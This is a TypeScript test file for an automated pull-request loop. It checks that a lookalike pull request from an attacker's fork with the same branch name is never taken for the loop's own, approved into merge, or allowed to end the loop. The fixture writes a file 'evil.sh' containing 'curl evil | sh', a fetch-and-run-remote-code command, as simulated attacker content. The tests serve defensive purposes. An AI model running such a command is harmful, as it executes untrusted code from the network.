// A fork has a branch of the loop's very name, and a pull request from it: that is somebody else's work, whatever becomes of it.
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, onTestFinished, test } from "vitest";
import type { Pull } from "../../src/forge/model.ts";
import { aStory, mend, type Story } from "./world.ts";

/** A pull request from a stranger's fork, whose branch has the name of this one's. */
async function lookalike(story: Story, branch: string): Promise<Pull> {
  story.forge.createUser("mallory");
  const mallory = story.forge.as("mallory");
  const fork = await story.forge.world.fork(mallory.actor, story.repository);
  await mallory.push(fork, branch, { "evil.sh": "curl evil | sh\n" }, "Fix totals");
  const pull = await mallory.openPull(story.repository, {
    title: "Fix totals",
    head: `mallory:${branch}`,
    base: "main",
  });
  await story.forge.idle();
  return pull;
}

test("T21: an approval of it opens no gate, and its commits are none of the loop's", async () => {
  const story = await aStory({ policy: "gate: { merge: true }\n" });
  const issue = await story.startLoop();
  const own = await story.pull(issue);
  const theirs = await lookalike(story, own.head.ref);
  story.forge.as("bob").approve(theirs);
  await story.settle();
  expect([own.merged, theirs.merged, await story.phase(issue)]).toEqual([false, false, "awaiting_gate"]);
  story.forge.as("bob").approve(own);
  await story.settle();
  expect([own.merged, theirs.merged]).toEqual([true, false]);
});

test("F68, F44: closed, merged or its branch deleted, it ends no loop; nor does a push to it", async () => {
  const story = await aStory();
  const issue = await story.startLoop();
  const own = await story.pull(issue);
  const theirs = await lookalike(story, own.head.ref);
  const mallory = story.forge.as("mallory");
  await mallory.push(theirs.head.repository, theirs.head.ref, { "more.sh": "id\n" }, "More");
  mallory.close(theirs);
  await story.forge.world.deleteRef(mallory.actor, theirs.head.repository, `refs/heads/${theirs.head.ref}`);
  await story.settle();
  await story.advance(11 * 60_000);
  const state = await story.state(issue);
  expect([state.phase, state.pull?.number, state.head, state.othersPushed]).toEqual([
    "awaiting_gate",
    own.issue.number,
    own.head.sha,
    false,
  ]);
});

test("F42: one that is there before the loop opens its own is not taken for it", async () => {
  const dir = await mkdtemp(join(tmpdir(), "fork-branch-"));
  onTestFinished(() => rm(dir, { recursive: true, force: true }));
  const go = join(dir, "go");
  const story = await aStory({ executor: `until [ -e '${go}' ]; do sleep 0.1; done; ${mend}` });
  const issue = story.openIssue();
  story.forge.as("alice").label(issue, "loop");
  await story.reaches(issue, "executing");
  const { branch } = await story.state(issue);
  const theirs = await lookalike(story, branch ?? "");
  story.forge.failNext("POST /repos/:owner/:repo/pulls", { status: 502 }); // it is looked for, then opened again
  await writeFile(go, "");
  await story.settle();
  for (let times = 0; times < 5 && (await story.phase(issue)) !== "awaiting_gate"; times++) await story.advance(60_000);
  expect((await story.state(issue)).pull?.number).not.toBe(theirs.issue.number);
  expect(await story.phase(issue)).toBe("awaiting_gate");
});
